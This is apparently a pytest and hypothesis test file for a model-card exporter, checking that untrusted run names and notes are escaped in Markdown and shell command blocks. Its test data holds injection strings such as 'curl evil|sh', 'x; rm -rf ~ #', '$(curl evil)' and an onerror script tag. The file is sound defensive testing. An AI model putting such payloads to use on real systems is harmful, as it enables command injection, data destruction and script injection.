"""Model cards of runs from elsewhere, whose names and notes are somebody else's."""

from __future__ import annotations

import dataclasses
import shlex
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from hypothesis import assume, example, given
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token

from core.config.schema import MethodSection
from core.export.card import (
    BaseModel,
    CardFacts,
    block,
    code,
    filled,
    heading,
    page,
    prose,
    table,
    write_card,
)
from core.export.request import Quant
from core.export.result import Agreement, ExportedFile, shell_word
from core.runs.catalog.trained import find_trained
from core.runs.record.store import Run
from core.text import one_line
from tests.cases import cases
from tests.core.chat.test_session import add_adapter, make_run
from tests.core.export.test_result import make_result

STAMP = "20260101-000000-"
NAMES = [
    "y\n```\n# Install\n```sh\ncurl evil|sh\n```\n",
    "x; rm -rf ~ #",
    "# Install",
    "x\n===\n",
    "x\n\n    curl evil",
    "x\r\n~~~sh\r\ncurl evil\r\n~~~",
    "<img src=x onerror=evil()>",
    "[click](evil.example) ![](x)",
    "| --- |",
    "a\\`b",
    "x\u2028# y",
    "$(curl evil)",
    "' && curl evil && '",
    "-rf",
    "\x1b]0;x\x07\u202e",
    "---\nlicense: mine\n---",
]


def hostile_run(name: str, **method: Any) -> Run:
    run = make_run("finished", method=MethodSection(**method))
    add_adapter(run.adapter_path)
    elsewhere = run.path.parent / str(time.monotonic_ns())
    elsewhere.mkdir()
    return Run(run.path.rename(elsewhere / f"{STAMP}{name}"))


def facts_of(run: Run, base: BaseModel, **values: Any) -> CardFacts:
    return CardFacts(find_trained(run), make_result(run.path, run=run.id, **values), base, None)


def body(card: str) -> str:
    """A card without its front matter."""
    before, _, rest = card.partition("\n---\n")
    assert before.startswith("---\n")
    assert all(": " in line for line in before.splitlines()[1:]), before
    return rest


@cases("name", NAMES)
@cases("kind", ["adapter", "ollama", "gguf", "merged"])
def test_the_name_of_a_run_directory_stays_a_name(name: str, kind: Any) -> None:
    run = hostile_run(name)
    quant: Quant | None = None if kind == "adapter" else "Q8_0"
    base = BaseModel(f"base{name}", gguf_file=f"{name}.gguf", package=f"pack {name}")
    text = write_card(facts_of(run, base, kind=kind, quant=quant, files=(ExportedFile("a b.gguf", 1, "ab"),)))
    tokens = parse(body(text))
    headings = [tokens[at + 1] for at, token in enumerate(tokens) if token.type == "heading_open"]
    first, *others = lines(headings)
    assert first.replace("\ufffd", "")[:1] == name.replace("\u202e", "").replace("\x1b", "").lstrip()[:1]
    assert set(others) <= {"Data", "Training", "Measured", "Use"}
    kinds = {token.type for token in tokens}
    assert not kinds & {"html_block", "code_block", "blockquote_open", "bullet_list_open", "ordered_list_open", "hr"}
    (fence,) = (token for token in tokens if token.type == "fence")
    assert fence.info in ("sh", "python")
    list(lines(tokens))  # each holds nothing but text and code
    if fence.info == "sh":
        program, *words = shlex.split(fence.content)
        assert (program, len(words)) == {"ollama": ("ollama", 8), "gguf": ("llama-server", 4)}[kind]
        if kind == "ollama":
            assert words[0] == "create"
            assert words[1].replace("-", "").isalnum()
    else:
        compile(fence.content, "card", "exec")


@cases("text", ["```\n# Install\n```sh\ncurl evil", "| a | b |\n| - | - |", "<script>x</script>", "[x](http://evil)"])
def test_notes_and_figures_stay_in_their_places(text: str, tmp_path: Path) -> None:
    run = hostile_run("x", target_modules=["q_proj", "a|b`c"])
    dataclasses.replace(run.state(), refused=text).write(run.state_path)
    agreement = Agreement(2, True, 0.0, 1.0, 0.0, 2, text, data=text)
    notes = (text, "Fine: <= 1.")
    facts = facts_of(run, BaseModel("b"), kind="merged", quant="BF16", agreement=agreement, notes=notes)
    tokens = parse(body(write_card(facts)))
    found = list(lines(tokens))
    shown = text.replace("\n", "⏎")
    assert shown in found, "the note"
    assert "Fine: <= 1." in found
    assert '["q_proj", "a|b`c"]' in found
    assert [token.info for token in tokens if token.type == "fence"] == ["python"]
    assert sum(token.type == "table_open" for token in tokens) == 1
    assert "Answers like the trained model: yes, 2 of 2 agree." in found


HUB = BaseModel("owner/name", hub_id="owner/name")


@cases(
    ("kind", "quant", "base", "said"),
    [
        (
            "ollama",
            "Q8_0",
            HUB,
            [
                *(
                    "\n# tickets\n",
                    "A model for Ollama (Q8_0)",
                    "ollama create tickets -f Modelfile && ollama run tickets\n",
                ),
                *("of `owner/name`, m", 'base_model: "owner/name"\nbase_model_relation: "quantized"'),
            ],
        ),
        ("gguf", None, HUB, ["An adapter (QLoRA, rank", "-m BASE.gguf --lora tickets.gguf", 'relation: "adapter"']),
        (
            "gguf",
            "Q8_0",
            HUB,
            ["A GGUF file (Q8_0)", "llama-server -m tickets.gguf --port 8080\n", 'relation: "quantized"'],
        ),
        (
            "merged",
            "BF16",
            HUB,
            ["A fine-tuned model (BF16)", 'AutoModelForCausalLM.from_pretrained(".")', 'relation: "finetune"'],
        ),
        ("adapter", None, BaseModel("b", gguf_file="über 家.gguf"), ['gguf_file="über 家.gguf"']),
        ("adapter", None, BaseModel("b", gguf_file="emoji 😀.gguf"), ['gguf_file="emoji 😀.gguf"']),
    ],
)
def test_an_ordinary_card_says_how_its_files_are_used(
    kind: Any, quant: Quant | None, base: BaseModel, said: list[str]
) -> None:
    run = make_run("finished")
    add_adapter(run.adapter_path)
    text = write_card(facts_of(run, base, kind=kind, quant=quant, files=(ExportedFile("tickets.gguf", 1, "ab"),)))
    assert [part for part in said if part not in text] == []


PARSER = MarkdownIt("commonmark").enable(["table", "strikethrough"])
#: Patterns of lines with foreign text.
PLAIN = {"text", "text_special", "code_inline", "html_inline", "link_open", "link_close"}

#: Signs that mean something in Markdown, in HTML or in a shell, among others.
SIGNS = [
    *"#`~*_[]()<>!|\\&;:-+=.1\n\r\t $'\"{}@/",
    *("\u2028", "\x0b", "\x1b[2J", "\u202e", "```", "~~~", "<b>", "</code>"),
    *("&lt;", "&#96;", "[x](y)", "---", "===", "http://x", "    ", "| - |", "<!--"),
]
hostile = st.lists(st.sampled_from(SIGNS) | st.text(max_size=3), max_size=14).map("".join)


def parse(text: str) -> list[Token]:
    return PARSER.parse(text)


def content(token: Token) -> str:
    """The text of a line as a reader sees it."""
    children = token.children or []
    assert {child.type for child in children} <= PLAIN, [child.type for child in children]
    assert {child.content for child in children if child.type == "html_inline"} <= {"<code>", "</code>"}
    return "".join(child.content for child in children if child.type != "html_inline")


def lines(tokens: list[Token]) -> Iterator[str]:
    return (content(token) for token in tokens if token.type == "inline")


@given(hostile)
@example("a\\|b`c")
@example("1. x")
@example("123456789) x")
@example("- - -")
@example("+ x")
@example("= =")
@example("> x")
@example("# # #")
@example("x #")
@example("``` `` ` x")
@example("\\\\|`")
@example("&amp;&#x41;")
@example("_a_ __b__ a_b _")
def test_foreign_text_stays_in_its_place_and_is_read_as_it_is(text: str) -> None:
    shown = one_line(text, 200).strip()
    assume(shown)
    text = text[:200]
    parts = [
        heading(1, prose(text)),
        prose(text),
        filled("It is {name}.", name=code(text)),
        table((prose(text), code(text)), [(prose("a"), code(text)), (code(text), prose(text))]),
    ]
    tokens = parse(page(parts))
    shape = [token.type for token in tokens if token.nesting >= 0 and token.type != "inline"]
    rows = ["thead_open", "tr_open", *["th_open"] * 2, "tbody_open", *(["tr_open", *["td_open"] * 2] * 2)]
    assert shape == ["heading_open", "paragraph_open", "paragraph_open", "table_open", *rows]
    assert list(lines(tokens)) == [shown, shown, f"It is {shown}.", shown, shown, "a", shown, shown, shown]


@given(hostile)
def test_a_word_of_a_command_line_is_one_word(text: str) -> None:
    (fence,) = parse(page([block("sh", f"run -m {shell_word(text)} --last")]))
    assert (fence.type, fence.info) == ("fence", "sh")
    assert shlex.split(fence.content) == ["run", "-m", one_line(text, 4096), "--last"]


@cases("text", ["tickets-2", "is <= 1.", "exact_match: -0.5 (12 %)", "Q4_K_M & F16", "3.5 nats", "-0.3"])
def test_what_means_nothing_in_markdown_is_left_alone(text: str) -> None:
    assert prose(text) == text
    assert code(text) == f"`{text}`"


def test_a_line_that_would_end_its_block_is_a_mistake_and_long_text_is_cut() -> None:
    for line in ("```", "  ``` x", "a\nb", "a\r# b"):
        with pytest.raises(ValueError, match="ends it"):
            block("sh", "echo", line)
    assert (len(prose("x" * 5000)), len(code("x" * 5000))) == (600, 202)
